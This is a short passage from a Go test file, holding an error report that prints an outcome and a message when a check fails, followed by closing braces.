		t.Errorf("later it is %s: %s", p.Outcome, p.Message)
	}
}
